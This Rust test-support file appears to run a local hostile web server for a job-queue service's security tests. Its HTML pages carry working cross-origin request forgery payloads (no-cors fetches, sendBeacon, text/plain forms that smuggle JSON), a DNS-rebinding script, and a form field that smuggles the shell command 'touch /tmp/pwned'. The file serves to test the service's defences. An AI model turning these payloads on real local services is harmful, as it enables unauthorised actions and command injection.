//! The attacker's web server: hostile pages, and what they report back.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::{Mutex, mpsc, oneshot};

/// As long as a browser may take for a page; only one that hangs takes so long.
const PATIENCE: Duration = Duration::from_secs(180);

/// Where requests end that the pages send; their path and body.
pub(super) struct Pages {
    address: SocketAddr,
    requests: Mutex<mpsc::UnboundedReceiver<(String, String)>>,
    close: oneshot::Sender<oneshot::Sender<()>>,
}

impl Pages {
    /// Serves pages that attack `target`.
    pub(super) async fn start(target: &str) -> Pages {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
        let address = listener.local_addr().expect("a bound listener has an address");
        let (requests, received) = mpsc::unbounded_channel();
        let (close, mut closing) = oneshot::channel::<oneshot::Sender<()>>();
        let target = target.to_owned();
        tokio::spawn(async move {
            let mut open = tokio::task::JoinSet::new();
            let closed = loop {
                tokio::select! {
                    accepted = listener.accept() => {
                        let (stream, _) = accepted.expect("connections can be accepted");
                        open.spawn(serve(stream, target.clone(), requests.clone()));
                    }
                    closed = &mut closing => break closed,
                }
            };
            drop(listener);
            open.shutdown().await;
            if let Ok(closed) = closed {
                let _ = closed.send(());
            }
        });
        Pages { address, requests: Mutex::new(received), close }
    }

    pub(super) fn url(&self, host: &str, path: &str) -> String {
        format!("http://{host}:{}{path}", self.address.port())
    }

    /// The flag by which the browser takes these pages for pages of the public internet.
    pub(super) fn as_public(&self) -> String {
        format!("--ip-address-space-overrides={}=public", self.address)
    }

    /// What the page says at its end.
    pub(super) async fn report(&self) -> String {
        self.wait_for("/report").await
    }

    /// The body of the next request for this path.
    pub(super) async fn wait_for(&self, path: &str) -> String {
        let mut requests = self.requests.lock().await;
        let wanted = async {
            loop {
                let (asked, body) = requests.recv().await.expect("the pages are served");
                if asked == path {
                    return body;
                }
            }
        };
        tokio::time::timeout(PATIENCE, wanted).await.expect("the browser comes to that")
    }

    /// Serves no more; the address is free.
    pub(super) async fn close(self) -> SocketAddr {
        let (closed, is_closed) = oneshot::channel();
        self.close.send(closed).expect("it serves");
        is_closed.await.expect("it closes");
        self.address
    }
}

async fn serve(mut stream: TcpStream, target: String, requests: mpsc::UnboundedSender<(String, String)>) {
    let mut text = Vec::new();
    let (head, body) = loop {
        let mut part = [0; 4096];
        match stream.read(&mut part).await {
            Ok(0) | Err(_) => return,
            Ok(read) => text.extend_from_slice(&part[..read]),
        }
        let so_far = String::from_utf8_lossy(&text).into_owned();
        let Some((head, body)) = so_far.split_once("\r\n\r\n") else { continue };
        let length = head.lines().find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse::<usize>().ok())?
        });
        if body.len() >= length.unwrap_or(0) {
            break (head.to_owned(), body.to_owned());
        }
    };
    let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
    let page = match path.as_str() {
        "/attack" => Some(ATTACK),
        "/form-text" => Some(FORM_TEXT),
        "/form-urlencoded" => Some(FORM_URLENCODED),
        "/rebinding" => Some(REBINDING),
        _ => None,
    };
    let (status, page) = match page {
        Some(page) => ("200 OK", page.replace("TARGET", &target)),
        None => ("599 Not Yet", String::new()),
    };
    let answer = format!(
        "HTTP/1.1 {status}\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{page}",
        page.len()
    );
    let _ = stream.write_all(answer.as_bytes()).await;
    let _ = stream.shutdown().await;
    let _ = requests.send((path, body));
}

/// Everything that a script of another origin can send, by both names of loopback; then what came back of it.
const ATTACK: &str = r#"<!doctype html><script>
const job = '{"queue":"pwned","payload":1}';
const bytes = new Uint8Array([0,0,0,0,5, 0x0a,1,0x71, 0x10,1]); // SetQueueRequest: q is paused
const blob = (body, type) => new Blob([body], {type});
const heard = [];
async function attempt(name, url, how) {
  try {
    const answer = await fetch(url, how);
    heard.push(name + ' ' + answer.type + ' ' + answer.status + ' ' + await answer.text());
  } catch (error) { heard.push(name + ' blocked'); }
}
(async () => {
  const ports = 'TARGET'.split(':')[2];
  for (const base of ['TARGET', 'http://localhost:' + ports]) {
    const post = (body, headers) => ({method: 'POST', mode: 'no-cors', body, headers});
    await attempt('text', base + '/v1/jobs', post(job, {'content-type': 'text/plain'}));
    await attempt('form', base + '/v1/jobs', post(job, {'content-type': 'application/x-www-form-urlencoded'}));
    await attempt('multipart', base + '/v1/jobs', post(job, {'content-type': 'multipart/form-data'}));
    await attempt('untyped', base + '/v1/jobs', post(blob(job, '')));
    await attempt('pause', base + '/v1/queues/q/pause', post(''));
    await attempt('claim', base + '/v1/work/claim', post('{"worker":"w","queues":["q"]}'));
    await attempt('ping', base + '/v1/workers/w/ping', post(''));
    await attempt('grpc', base + '/tenure.v1.Queues/Set', post(blob(bytes, '')));
    await attempt('grpc text', base + '/tenure.v1.Queues/Set', post(bytes, {'content-type': 'text/plain'}));
    await attempt('json', base + '/v1/jobs', {method: 'POST', body: job, headers: {'content-type': 'application/json'}});
    await attempt('put', base + '/v1/queues/q', {method: 'PUT', body: '{"paused":true}'});
    await attempt('read', base + '/v1/jobs');
    await attempt('read opaque', base + '/v1/jobs', {mode: 'no-cors'});
    navigator.sendBeacon(base + '/v1/jobs', job);
    navigator.sendBeacon(base + '/v1/jobs', blob(job, 'application/x-www-form-urlencoded'));
    await new Promise(done => {
      const frame = document.createElement('iframe');
      frame.onload = done;
      frame.src = base + '/v1/jobs';
      document.documentElement.appendChild(frame);
    });
  }
  await fetch('/report', {method: 'POST', body: heard.join('\n')});
})();
</script>"#;

/// The form of which the whole body is JSON.
const FORM_TEXT: &str = r#"<!doctype html><form method=POST enctype="text/plain" action="TARGET/v1/jobs">
<input name='{"queue":"pwned","kind":"x","payload":"cmd; touch /tmp/pwned #' value='"}'></form>
<script>document.forms[0].submit()</script>"#;

/// The form that pauses a queue, which needs no body.
const FORM_URLENCODED: &str = r#"<!doctype html><form method=POST action="TARGET/v1/queues/q/pause"></form>
<script>document.forms[0].submit()</script>"#;

/// Waits until its own name means another server, and then uses that as its own.
const REBINDING: &str = r#"<!doctype html><script>
(async () => {
  const heard = [];
  const attempt = async (name, path, how) => {
    const answer = await fetch(path, how);
    heard.push(name + ' ' + answer.status + ' ' + await answer.text());
    return answer.status;
  };
  await fetch('/loaded');
  for (;;) {
    try {
      if ((await fetch('/v1/jobs')).status != 599) break;
    } catch (error) {}
    await new Promise(done => setTimeout(done, 50));
  }
  const json = {'content-type': 'application/json'};
  await attempt('read', '/v1/jobs');
  await attempt('enqueue', '/v1/jobs', {method: 'POST', body: '{"queue":"pwned"}', headers: json});
  await attempt('pause', '/v1/queues/q', {method: 'PUT', body: '{"paused":true}', headers: json});
  await attempt('claim', '/v1/work/claim', {method: 'POST', body: '{"worker":"w","queues":["q"]}', headers: json});
  await fetch('TARGET/report', {method: 'POST', mode: 'no-cors', body: heard.join('\n')});
})();
</script>"#;
